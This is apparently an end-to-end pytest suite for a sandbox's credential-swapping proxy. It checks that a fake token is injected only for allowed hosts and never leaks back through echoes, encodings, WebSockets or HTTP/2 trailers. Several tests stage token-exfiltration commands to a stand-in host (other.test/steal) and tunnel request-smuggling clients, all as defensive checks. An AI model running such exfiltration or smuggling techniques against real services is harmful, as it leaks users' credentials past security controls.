"""[credentials.NAME]: a token the sandbox never sees, swapped in by the daemon, through real runs.

A loopback HTTPS "API" under a test CA records every request it gets (headers,
path, body) and can echo a header back. Each case checks what must pass and
what must not: what reached the origin, what the sandbox saw, what the audit
log and stockade's own output say, and that the real value is in none of them.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import http.server
import json
import shutil
import ssl
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.e2e.netfixtures import make_box, state_dir
from tests.netkit import make_certificate, stop_daemon
from tests.visible import force_rmtree, visible_root

pytestmark = pytest.mark.e2e

API = "api.test"
OTHER = "other.test"  # allowed, but not one of the credential's hosts
SECRET = "ghp_S3cretValueThatMustNeverBeSeenInside0123"
SLASHED = "sk/S3cret+Value=Seen/Only+Outside=="  # a value a URL has to escape
KEPT = [""]  # what the last request to any origin carried
WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


NODE_H2 = r"""
const http2 = require("http2"), fs = require("fs");
const server = http2.createSecureServer({key: fs.readFileSync(process.argv[2]), cert: fs.readFileSync(process.argv[3])},
  (req, res) => { fs.appendFileSync(process.argv[4], `${req.httpVersion} ${req.url} ${req.headers["authorization"]}\n`);
                  if (req.url.startsWith("/trailer")) { res.addTrailers({"x-echo": `${req.headers["authorization"]}`}); }
                  res.end(`you sent ${req.headers["authorization"]}\n`); });
server.listen(0, "127.0.0.1", () => console.log(server.address().port));
"""


class Origin(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, context: ssl.SSLContext | None) -> None:
        self.seen: list[dict[str, object]] = []
        super().__init__(("127.0.0.1", 0), Handler)
        if context is not None:
            self.socket = context.wrap_socket(self.socket, server_side=True)
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Origin

    def answer(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length)
        if len(body) < length:
            return  # a request cut short is never acted on (as a real server would not)
        sni = getattr(self.request, "sni_name", None)  # the name the TLS connection was made for
        self.server.seen.append({"method": self.command, "path": self.path, "headers": dict(self.headers.items()), "body": body, "sni": sni})
        last, KEPT[0] = KEPT[0], str(self.headers.get("authorization"))  # one service behind both origins
        if self.path.startswith("/raw/"):  # framings and codings a proxy may not read as the client does
            echo = str(self.headers.get("authorization")).encode()
            kind = self.path[len("/raw/") :].split("?")[0]
            packed = gzip.compress(b"you sent " + echo)
            chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(packed), packed)
            heads = {
                "te-gzip": b"Transfer-Encoding: gzip, chunked\r\n",
                "ce-upper": b"Content-Encoding: GZIP\r\nTransfer-Encoding: chunked\r\n",
                "ce-two": b"Content-Encoding: identity\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n",
                "ce-list": b"Content-Encoding: identity, gzip\r\nTransfer-Encoding: chunked\r\n",
            }
            if kind == "badline":  # no HTTP answer: a proxy's error page that quotes it would quote the value
                self.wfile.write(b"HTTP/1.1 2xx " + echo + b"\r\n\r\n")
            elif kind == "early":
                self.wfile.write(b"HTTP/1.1 103 Early Hints\r\nLink: <" + echo.replace(b" ", b"_") + b">\r\n\r\n")
                body = b"you sent " + echo
                self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
            else:
                self.wfile.write(b"HTTP/1.1 200 OK\r\n" + heads[kind] + b"\r\n" + chunked)
            self.wfile.flush()
            return
        if self.path.startswith("/last"):  # a service that keeps what it got and shows it later (a request bin, a log)
            padding = "." * int(self.path.partition("?pad=")[2] or 0)
            text = f"{padding}the request before this one carried {last}\n".encode()
            self.send_response(200)
        elif self.path.startswith("/headers"):  # httpbin's /headers: every header as it came, Authorization too
            text = json.dumps({"headers": dict(self.headers.items()), "url": self.path}).encode()
            self.send_response(200)
        elif self.path.startswith("/ws"):  # a WebSocket that greets with what the handshake carried
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            accept = base64.b64encode(hashlib.sha1((self.headers["Sec-WebSocket-Key"] + WS_GUID).encode()).digest()).decode()
            self.send_header("Sec-WebSocket-Accept", accept)
            self.end_headers()
            said = f"hello {self.headers.get('authorization')}".encode()
            self.wfile.write(bytes([0x81, len(said)]) + said)
            self.wfile.flush()
            self.close_connection = True
            return
        elif self.path.startswith("/echo"):  # a debug endpoint that reflects what it got: the value must not come back
            text = f"you sent {self.headers.get('authorization')} to {self.path}\n".encode()
            self.send_response(200)
            self.send_header("x-echo", str(self.headers.get("authorization")))
        else:
            text = f"ok {self.command} {self.path}\n".encode()
            self.send_response(200)
        self.send_header("content-length", str(len(text)))
        self.end_headers()
        if len(text) > 1 << 16:  # a long body comes slowly: the daemon is idle on it when its end arrives
            self.wfile.write(text[: 1 << 16])
            self.wfile.flush()
            time.sleep(0.5)
            text = text[1 << 16 :]
        self.wfile.write(text)

    do_GET = do_POST = do_PUT = answer

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimpleNamespace]:
    root = visible_root("cred")
    scratch = tmp_path_factory.mktemp("cred")
    cert, key = make_certificate(root, [API, OTHER])
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    context.sni_callback = lambda sock, name, _context: setattr(sock, "sni_name", name)  # type: ignore[assignment]
    origin = Origin(context)
    port = origin.server_address[1]
    clear = Origin(None)  # plain HTTP, on the same names
    clear_port = clear.server_address[1]
    node, h2, h2_port, h2_log = shutil.which("node"), None, None, root / "h2.log"
    if node:
        script = root / "h2.js"
        script.write_text(NODE_H2)
        h2 = subprocess.Popen([node, str(script), str(key), str(cert), str(h2_log)], stdout=subprocess.PIPE, text=True)
        assert h2.stdout is not None
        h2_port = int(h2.stdout.readline())
    names = scratch / "names.json"
    upstreams = [f"127.0.0.1:{p}" for p in (port, h2_port, clear_port) if p]
    names.write_text(json.dumps({"names": {API: ["127.0.0.1"], OTHER: ["127.0.0.1"]}, "upstreams": upstreams}))
    box = make_box(root / "box")
    box.env.update(
        STOCKADE_PROXY_TEST_RESOLVER=str(names),
        STOCKADE_PROXY_TEST_UPSTREAM_CA=str(cert),
        STOCKADE_PROXY_IDLE="60",
        HOST_TOKEN=SECRET,
        HOST_SLASHED=SLASHED,
    )
    yield SimpleNamespace(box=box, origin=origin, port=port, root=root, cert=cert, h2_port=h2_port, h2_log=h2_log, clear=clear, clear_port=clear_port)
    clear.shutdown()
    stop_daemon(state_dir(box) / "run")
    origin.shutdown()
    if h2 is not None:
        h2.kill()
        h2.wait()
    force_rmtree(root)


def policy(credential: str = 'env = "HOST_TOKEN"\nhosts = ["api.test"]\n', name: str = "GH_TOKEN") -> str:
    return f'extends = ["default"]\n[network]\nallow = ["{API}", "{OTHER}"]\n[credentials.{name}]\n{credential}'


def get(world: SimpleNamespace, url: str, *headers: str, extra: str = "") -> str:
    said = " ".join(f'-H "{header}"' for header in headers)
    return f'curl -sS {extra} {said} -w "[%{{http_code}}]\\n" "https://{url.replace("PORT", str(world.port))}"'


def audit_text(world: SimpleNamespace) -> str:
    path = state_dir(world.box) / "audit.jsonl"
    return path.read_text() if path.exists() else ""


def audit(world: SimpleNamespace) -> list[dict[str, object]]:
    return [json.loads(line) for line in audit_text(world).splitlines() if line.strip()]


def everything_outside(world: SimpleNamespace) -> str:
    """Every file stockade wrote for this box (audit log, daemon log, plan cache): none may hold the value."""
    found = []
    sources = world.box.home / ".config" / "api"  # where the file credentials' values live, on purpose
    for path in world.box.home.rglob("*"):
        if path.is_file() and not path.is_symlink() and sources not in path.parents:
            try:
                found.append(path.read_bytes().decode("latin-1"))
            except OSError:
                continue
    return "\n".join(found)


def test_the_placeholder_is_swapped_for_its_host_and_the_value_never_enters(world: SimpleNamespace) -> None:
    before = len(world.origin.seen)
    script = (
        'echo "inside=$GH_TOKEN"; env | grep -c S3cretValue; '
        + get(world, f"{API}:PORT/user", "Authorization: Bearer $GH_TOKEN")
        + "; "
        + get(world, f"{API}:PORT/echo", "Authorization: token $GH_TOKEN", extra="-D -")
    )
    result = world.box.run(script, policy=policy())
    assert result.returncode == 0, result
    inside = next(line for line in result.stdout.splitlines() if line.startswith("inside="))
    assert inside.startswith("inside=stockade-placeholder-gh-token-") and SECRET not in inside, inside
    assert result.stdout.count("[200]") == 2, result.stdout
    seen = world.origin.seen[before:]
    assert [entry["headers"]["Authorization"] for entry in seen] == [f"Bearer {SECRET}", f"token {SECRET}"]  # type: ignore[index]
    # The echo endpoint reflected it, in a header and the body: masked, same length, on the way back.
    assert SECRET not in result.stdout and SECRET not in result.stderr, result
    assert "stockade-masked-" in result.stdout
    records = [r for r in audit(world) if r.get("host") == API and r.get("scheme") == "https" and r.get("phase") == "end"][-2:]
    assert all(r["decision"] == "allow" and "credential GH_TOKEN swapped in" in str(r["rule"]) for r in records), records
    assert SECRET not in everything_outside(world)


def test_http2_streams_get_the_swap_and_the_mask(world: SimpleNamespace) -> None:
    if world.h2_port is None:
        pytest.skip("node is not installed (the HTTP/2 origin)")
    first, second = (get(world, f"{API}:{world.h2_port}/{path}", "Authorization: Bearer $GH_TOKEN", extra="--http2") for path in "ab")
    result = world.box.run(f"{first}; {second}", policy=policy())
    assert result.stdout.count("[200]") == 2, result
    assert world.h2_log.read_text().splitlines()[-2:] == [f"2.0 /a Bearer {SECRET}", f"2.0 /b Bearer {SECRET}"]
    assert SECRET not in result.stdout and "you sent Bearer stockade-masked-" in result.stdout, result.stdout


def test_basic_credentials_and_a_query_parameter_are_swapped_in_their_own_place(world: SimpleNamespace) -> None:
    before = len(world.origin.seen)
    basic = base64.b64encode(b"x-access-token:PLACEHOLDER").decode()
    script = f'B=$(printf "x-access-token:%s" "$GH_TOKEN" | base64 -w0); {get(world, f"{API}:PORT/basic", "Authorization: Basic $B")}; ' + get(
        world, f"{API}:PORT/q?key=$KEY_TOKEN&page=2"
    )
    rules = policy() + '[credentials.KEY_TOKEN]\nenv = "HOST_TOKEN"\nhosts = ["api.test"]\nquery = "key"\n'
    result = world.box.run(script, policy=rules)
    assert result.stdout.count("[200]") == 2, result
    seen = world.origin.seen[before:]
    decoded = base64.b64decode(str(seen[0]["headers"]["Authorization"]).split()[1]).decode()  # type: ignore[index]
    assert decoded == f"x-access-token:{SECRET}" and basic  # Basic credentials are decoded, swapped, encoded again
    assert seen[1]["path"] == f"/q?key={SECRET}&page=2", seen[1]


@pytest.mark.parametrize(
    "case",
    [
        "another host, in the header",
        "another header of its host",
        "the path of its host",
        "a query parameter of its host",
        "a request body to its host",
        "plain HTTP to its host",
    ],
)
def test_the_placeholder_anywhere_else_is_refused_and_audited(world: SimpleNamespace, case: str) -> None:
    before, logged = len(world.origin.seen), len(audit(world))
    attempt = {
        "another host, in the header": get(world, f"{OTHER}:PORT/steal", "Authorization: Bearer $GH_TOKEN").replace("https://", "http://"),
        "another header of its host": get(world, f"{API}:PORT/x", "X-Debug: $GH_TOKEN"),
        "the path of its host": get(world, f"{API}:PORT/log/$GH_TOKEN"),
        "a query parameter of its host": get(world, f"{API}:PORT/x?t=$GH_TOKEN"),
        "a request body to its host": get(world, f"{API}:PORT/x", extra='-X POST --data "token=$GH_TOKEN"'),
        "plain HTTP to its host": get(world, f"{API}:PORT/x", "Authorization: Bearer $GH_TOKEN").replace("https://", "http://"),
    }[case]
    control = get(world, f"{API}:PORT/fine", "Authorization: Bearer $GH_TOKEN")
    result = world.box.run(f"{attempt}; {control}", policy=policy())
    assert result.stdout.rstrip().endswith("[200]"), result  # control: the same run's proper use passes
    seen = world.origin.seen[before:]
    assert [entry["path"] for entry in seen] == ["/fine"], seen  # the attempt never reached an origin whole
    assert all(SECRET not in json.dumps(entry, default=str) or entry["path"] == "/fine" for entry in seen)
    denials = [r for r in audit(world)[logged:] if r.get("decision") == "deny" and "credential GH_TOKEN" in str(r.get("rule"))]
    assert denials, (case, audit(world)[-3:])
    assert SECRET not in audit_text(world)


def test_a_host_whose_tls_is_passed_through_gets_the_placeholder_only(world: SimpleNamespace) -> None:
    """The daemon cannot see inside TLS it passes through, so it cannot refuse there; it swaps nothing there either."""
    before = len(world.origin.seen)
    script = get(world, f"{OTHER}:PORT/steal", "Authorization: Bearer $GH_TOKEN", extra=f"--cacert {world.cert}")  # the origin's own certificate
    result = world.box.run(script, policy=policy())
    assert result.stdout.rstrip().endswith("[200]"), result
    got = str(world.origin.seen[before:][0]["headers"]["Authorization"])  # type: ignore[index]
    assert got.startswith("Bearer stockade-placeholder-gh-token-") and SECRET not in got


def test_an_untrusted_project_file_cannot_add_a_credential(world: SimpleNamespace) -> None:
    before = len(world.origin.seen)
    project_policy = world.box.project / ".stockade.toml"
    project_policy.write_text(policy())
    try:
        result = world.box.run(get(world, f"{API}:PORT/user", "Authorization: Bearer $GH_TOKEN") + '; echo "inside=${GH_TOKEN:-unset}"')
    finally:
        project_policy.unlink()
    assert "an untrusted policy cannot add credentials" in result.stderr, result.stderr
    assert "inside=unset" in result.stdout, result.stdout
    assert all(SECRET not in json.dumps(entry, default=str) for entry in world.origin.seen[before:])


def test_a_file_credential_is_hidden_inside_and_a_command_one_runs_outside(world: SimpleNamespace) -> None:
    token_file = world.box.home / ".config" / "api" / "token"
    token_file.parent.mkdir(parents=True, exist_ok=True)
    token_file.write_text(SECRET + "\n")
    before = len(world.origin.seen)
    rules = policy(f'file = "{token_file}"\nhosts = ["api.test"]\n') + (
        f'[credentials.CMD_TOKEN]\ncommand = ["cat", "{token_file}"]\nhosts = ["api.test"]\nheader = "X-Api-Key"\n'
    )
    rules = rules.replace("[network]\n", f'[filesystem]\nallow_read = ["{token_file.parent}"]\n[network]\n')
    script = f"cat {token_file} 2>&1 | head -c 100; echo; " + get(world, f"{API}:PORT/f", "Authorization: Bearer $GH_TOKEN", "X-Api-Key: $CMD_TOKEN")
    result = world.box.run(script, policy=rules)
    assert SECRET not in result.stdout, result.stdout  # the folder is shown, its credential file is not
    assert result.stdout.rstrip().endswith("[200]"), result
    headers = world.origin.seen[before:][0]["headers"]
    assert headers["Authorization"] == f"Bearer {SECRET}" and headers["X-Api-Key"] == SECRET  # type: ignore[index]


@pytest.mark.parametrize(
    ("credential", "message"),
    [
        ('env = "NOT_SET_ANYWHERE"\nhosts = ["api.test"]\n', "the variable NOT_SET_ANYWHERE is not set"),
        ('command = ["false"]\nhosts = ["api.test"]\n', "exited with 1"),
        ('file = "/nonexistent/token"\nhosts = ["api.test"]\n', "cannot read /nonexistent/token"),
    ],
)
def test_a_credential_that_cannot_be_read_stops_the_run_with_2(world: SimpleNamespace, credential: str, message: str) -> None:
    result = world.box.run("echo ran", policy=policy(credential))
    assert result.returncode == 2, result
    assert message in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert "ran" not in result.stdout


def test_a_project_file_may_not_run_a_command_for_a_credential(world: SimpleNamespace) -> None:
    project_policy = world.box.project / ".stockade.toml"
    project_policy.write_text(policy('command = ["cat", "/etc/hostname"]\nhosts = ["api.test"]\n'))
    try:
        result = world.box.run("echo ran")
    finally:
        project_policy.unlink()
    assert result.returncode == 2 and "a project's policy may not do" in result.stderr, result
    assert f"{project_policy}:" in result.stderr  # FILE:LINE


def test_check_reports_a_bad_credential_table_at_its_line(world: SimpleNamespace, tmp_path: Path) -> None:
    import subprocess
    import sys

    bad = world.root / "bad.toml"
    bad.write_text('[network]\nallow = ["api.test"]\n\n[credentials.T]\nenv = "X"\nhosts = ["api.test"]\nheader = "Host"\n')
    result = subprocess.run(
        [sys.executable, "-m", "stockade.cli.main", "check", "--policy", str(bad)], env=world.box.env, capture_output=True, text=True
    )
    assert result.returncode == 2 and f"{bad}:7" in result.stderr and "routes or frames" in result.stderr, result


WS_CLIENT = r"""
import base64, os, socket, ssl, sys
host, port, token = sys.argv[1], int(sys.argv[2]), os.environ["GH_TOKEN"]
raw = socket.create_connection(("127.0.0.1", 3128))
raw.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
assert raw.recv(4096).startswith(b"HTTP/1.1 200")
tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(raw, server_hostname=host)
key = base64.b64encode(os.urandom(16)).decode()
tls.sendall((f"GET /ws HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
             f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer {token}\r\n\r\n").encode())
got = b""
while True:
    try:
        chunk = tls.recv(65536)
    except (OSError, ssl.SSLError):
        break
    if not chunk:
        break
    got += chunk
print(got.decode("latin-1"))
"""


def reveals(text: str, value: str) -> bool:
    """Whether `text` hands `value` over, as it is or in an encoding an echo puts it in (base64, %-escapes, JSON)."""
    import re
    from urllib.parse import unquote, unquote_plus

    seen = [text, unquote(text), unquote_plus(text)]
    for token in re.findall(r"[A-Za-z0-9+/_-]{8,}={0,2}", text):
        for shift in range(4):
            try:
                seen.append(base64.b64decode(token[shift:] + "===", altchars=b"-_" if "-" in token or "_" in token else None).decode("latin-1"))
            except ValueError:
                pass
    return any(value in one for one in seen)


def test_an_echoed_basic_header_does_not_hand_back_the_value(world: SimpleNamespace) -> None:
    """An endpoint that reflects its headers (httpbin's /headers) sends back Basic credentials in base64."""
    before = len(world.origin.seen)
    script = f'B=$(printf "x-access-token:%s" "$GH_TOKEN" | base64 -w0); {get(world, f"{API}:PORT/headers", "Authorization: Basic $B")}'
    result = world.box.run(script, policy=policy())
    assert result.stdout.rstrip().endswith("[200]"), result  # control: the swap happened and the request went through
    assert base64.b64decode(str(world.origin.seen[before]["headers"]["Authorization"]).split()[1]).decode() == f"x-access-token:{SECRET}"
    assert not reveals(result.stdout, SECRET), result.stdout


def test_an_echoed_query_does_not_hand_back_the_value_escaped(world: SimpleNamespace) -> None:
    """The value goes in the query %-escaped; an endpoint that reflects its URL sends it back so."""
    before = len(world.origin.seen)
    script = get(world, f"{API}:PORT/headers?key=$KEY_TOKEN")
    rules = policy('env = "HOST_SLASHED"\nhosts = ["api.test"]\nquery = "key"\n', name="KEY_TOKEN")
    result = world.box.run(script, policy=rules)
    assert result.stdout.rstrip().endswith("[200]"), result
    from urllib.parse import parse_qs, urlsplit

    assert parse_qs(urlsplit(str(world.origin.seen[before]["path"])).query)["key"] == [SLASHED]
    assert not reveals(result.stdout, SLASHED), result.stdout


def test_a_websocket_opened_with_a_credential_does_not_hand_back_the_value(world: SimpleNamespace) -> None:
    (world.root / "ws.py").write_text(WS_CLIENT)
    result = world.box.run(f"/usr/bin/python3 -I {world.root / 'ws.py'} {API} {world.port}", policy=policy())
    assert SECRET not in result.stdout, result.stdout


def test_http2_trailers_do_not_hand_back_the_value(world: SimpleNamespace) -> None:
    if world.h2_port is None:
        pytest.skip("node is not installed (the HTTP/2 origin)")
    script = get(world, f"{API}:{world.h2_port}/trailer", "Authorization: Bearer $GH_TOKEN", extra="--http2 -D -")
    result = world.box.run(script, policy=policy())
    assert world.h2_log.read_text().splitlines()[-1] == f"2.0 /trailer Bearer {SECRET}"
    assert SECRET not in result.stdout, result.stdout


def test_a_file_credential_is_hidden_by_its_other_names(world: SimpleNamespace) -> None:
    """The policy names the file by one path; the value is hidden whichever name the sandbox could read it by:
    a symlink's target is hidden with it, and a file with hard links elsewhere (the project) is refused."""
    stash = world.box.project / "stash"
    stash.mkdir(exist_ok=True)
    for how in ("symlink", "hardlink"):
        real = stash / f"real-token-{how}"
        real.write_text(SECRET + "\n")
        named = world.box.home / ".config" / "api" / f"token-{how}"
        named.parent.mkdir(parents=True, exist_ok=True)
        named.unlink(missing_ok=True)
        named.symlink_to(real) if how == "symlink" else named.hardlink_to(real)
        before = len(world.origin.seen)
        script = f"cat {real} 2>&1 | head -c 100; echo; " + get(world, f"{API}:PORT/f", "Authorization: Bearer $GH_TOKEN")
        result = world.box.run(script, policy=policy(f'file = "{named}"\nhosts = ["api.test"]\n'))
        assert SECRET not in result.stdout + result.stderr, result
        if how == "symlink":
            assert result.stdout.rstrip().endswith("[200]"), result  # control: the credential works
            assert world.origin.seen[before]["headers"]["Authorization"] == f"Bearer {SECRET}"  # type: ignore[index]
        else:
            assert result.returncode == 2 and "other name(s) (hard links)" in result.stderr and "Traceback" not in result.stderr, result
            real.unlink()  # one name again: the same file is used
            result = world.box.run(
                get(world, f"{API}:PORT/f", "Authorization: Bearer $GH_TOKEN"), policy=policy(f'file = "{named}"\nhosts = ["api.test"]\n')
            )
            assert result.stdout.rstrip().endswith("[200]"), result


def test_a_value_the_host_kept_does_not_come_back_on_a_later_request(world: SimpleNamespace) -> None:
    """A host that keeps what it got (a request bin, a log API) shows it on a request that carried nothing:
    every answer of a credential's host is masked, not only the one to the request that carried it."""
    script = get(world, f"{API}:PORT/store", "Authorization: Bearer $GH_TOKEN") + "; " + get(world, f"{API}:PORT/last")
    result = world.box.run(script, policy=policy())
    assert result.stdout.count("[200]") == 2, result
    assert "the request before this one carried Bearer stockade-masked-" in result.stdout, result.stdout  # it did come back, masked
    assert not reveals(result.stdout, SECRET), result.stdout
    for pad in (0, 1 << 20):  # over plain HTTP too, a body long enough to be spliced past the daemon's loop
        plain = f"curl -sS http://{API}:{world.clear_port}/last?pad={pad} | tail -c 300"
        result = world.box.run(get(world, f"{API}:PORT/store", "Authorization: Bearer $GH_TOKEN") + "; " + plain, policy=policy())
        assert "the request before this one carried" in result.stdout, result
        assert not reveals(result.stdout, SECRET), result.stdout


@pytest.mark.parametrize("kind", ["te-gzip", "ce-upper", "ce-two", "ce-list", "early", "badline"])
def test_framings_and_codings_do_not_carry_the_value_back(world: SimpleNamespace, kind: str) -> None:
    script = f"{get(world, f'{API}:PORT/raw/{kind}', 'Authorization: Bearer $GH_TOKEN', extra='-D - --compressed --tr-encoding --max-time 5')} | base64 -w0; echo"
    script += "; " + get(world, f"{API}:PORT/fine", "Authorization: Bearer $GH_TOKEN")
    result = world.box.run(script, policy=policy())
    assert result.stdout.rstrip().endswith("[200]"), result  # control
    import re

    for blob in re.findall(r"[A-Za-z0-9+/]{16,}={0,2}", result.stdout):
        decoded = base64.b64decode(blob + "===")
        assert SECRET.encode() not in decoded and SECRET.encode() not in gzip_or_none(decoded), decoded
    assert SECRET not in result.stdout
    assert SECRET not in everything_outside(world)  # nor in the audit log's error, nor the daemon's log


def gzip_or_none(data: bytes) -> bytes:
    at = data.find(b"\x1f\x8b")
    try:
        return gzip.decompress(data[at:]) if at >= 0 else b""
    except (OSError, EOFError):
        return b""


def test_stockades_own_output_never_holds_the_value(world: SimpleNamespace) -> None:
    """explain, a dry run, check, a run's report, a denial said on stderr, and the verbose run: placeholders at most."""
    import sys

    rules = policy()
    report = world.root / "report.json"
    script = get(world, f"{API}:PORT/log/$GH_TOKEN") + "; " + get(world, f"{API}:PORT/ok", "Authorization: Bearer $GH_TOKEN")
    said = []
    result = world.box.run(script, policy=rules, options=["--report", str(report), "--verbose"])
    assert result.stdout.rstrip().endswith("[200]"), result  # control: the run went on, its proper use worked
    said += [result.stdout, result.stderr, report.read_text()]
    said += [world.box.run("true", policy=rules, options=["--dry-run"]).stderr]
    for words in (["explain", "--policy", str(world.box.policy(rules))], ["check", "--policy", str(world.box.policy(rules))]):
        done = subprocess.run([sys.executable, "-m", "stockade.cli.main", *words], env=world.box.env, capture_output=True, text=True)
        said += [done.stdout, done.stderr]
    assert all(not reveals(text, SECRET) for text in said), said
    assert any("GH_TOKEN" in text for text in said[3:])  # explain and check do say there is a credential


RAW_IN_TUNNEL = r"""
import os, socket, ssl, sys
host, port, target = sys.argv[1], int(sys.argv[2]), sys.argv[3]
named = sys.argv[4] if len(sys.argv) > 4 else target.split('/')[2]  # the Host header: the target's own, or another
raw = socket.create_connection(("127.0.0.1", 3128))
raw.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
assert raw.recv(4096).startswith(b"HTTP/1.1 200")
tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(raw, server_hostname=host)
tls.sendall(f"GET {target} HTTP/1.1\r\nHost: {named}\r\nAuthorization: Bearer {os.environ['GH_TOKEN']}\r\nConnection: close\r\n\r\n".encode())
got = b""
while chunk := tls.recv(65536):
    got += chunk
print(got.decode("latin-1"))
"""


def test_a_request_inside_the_tls_tunnel_cannot_send_the_value_in_clear(world: SimpleNamespace) -> None:
    """Inside the TLS the daemon terminates, an absolute-form `http://` request would go upstream in clear."""
    (world.root / "raw.py").write_text(RAW_IN_TUNNEL)
    before = len(world.clear.seen)
    run = f"/usr/bin/python3 -I {world.root / 'raw.py'} {API} {world.port}"
    result = world.box.run(f"{run} http://{API}:{world.clear_port}/clear; {run} https://{API}:{world.port}/fine", policy=policy())
    assert all(SECRET not in json.dumps(entry, default=str) for entry in world.clear.seen[before:]), world.clear.seen[before:]
    # control: it went on inside the tunnel, over TLS to the tunnel's own origin, with the value, in origin form
    assert "ok GET /fine" in result.stdout, result
    assert world.origin.seen[-1]["headers"]["Authorization"] == f"Bearer {SECRET}"  # type: ignore[index]


def test_a_request_inside_another_credentials_tunnel_gets_no_swap(world: SimpleNamespace) -> None:
    """A tunnel to one credential's host is terminated; a request inside it that names another
    credential's host would be judged for that host but go down this tunnel's connection."""
    (world.root / "raw.py").write_text(RAW_IN_TUNNEL)
    rules = policy() + '[credentials.OTHER_TOKEN]\nenv = "HOST_SLASHED"\nhosts = ["other.test"]\n'
    run = f"/usr/bin/python3 -I {world.root / 'raw.py'}"
    before = len(world.origin.seen)
    result = world.box.run(
        f"{run} {OTHER} {world.port} https://{API}:{world.port}/cross; {run} {API} {world.port} https://{API}:{world.port}/fine", policy=rules
    )
    seen = world.origin.seen[before:]
    assert all(SECRET not in json.dumps(entry, default=str) for entry in seen if entry["sni"] != API), seen
    assert "ok GET /fine" in result.stdout and seen[-1]["sni"] == API, result  # control
    assert seen[-1]["headers"]["Authorization"] == f"Bearer {SECRET}"  # type: ignore[index]


def test_case_84_an_absolute_target_naming_another_host_gets_no_swap_and_goes_nowhere(world: SimpleNamespace) -> None:
    """ESCAPES 84: inside the tunnel to the credential's host, `GET https://other.test/steal` with
    `Host: api.test`: a front that routes on the absolute-form authority would hand the real token to
    other.test's backend. Every spelling of the target must agree; what goes on is origin form."""
    (world.root / "raw.py").write_text(RAW_IN_TUNNEL)
    run = f"/usr/bin/python3 -I {world.root / 'raw.py'} {API} {world.port}"
    before = len(world.origin.seen)
    result = world.box.run(
        f"{run} https://{OTHER}:{world.port}/steal {API}:{world.port}; {run} https://{API}:{world.port}/fine {API}:{world.port}", policy=policy()
    )
    seen = world.origin.seen[before:]
    assert not any("steal" in str(entry["path"]) for entry in seen), seen  # refused before it left
    assert "403" in result.stdout.split("ok GET")[0] and "does not match" in result.stdout, result
    # control: the target spelled absolute and agreeing goes on, in origin form, with the value
    assert [entry["path"] for entry in seen] == ["/fine"] and seen[0]["headers"]["Authorization"] == f"Bearer {SECRET}", seen  # type: ignore[index]
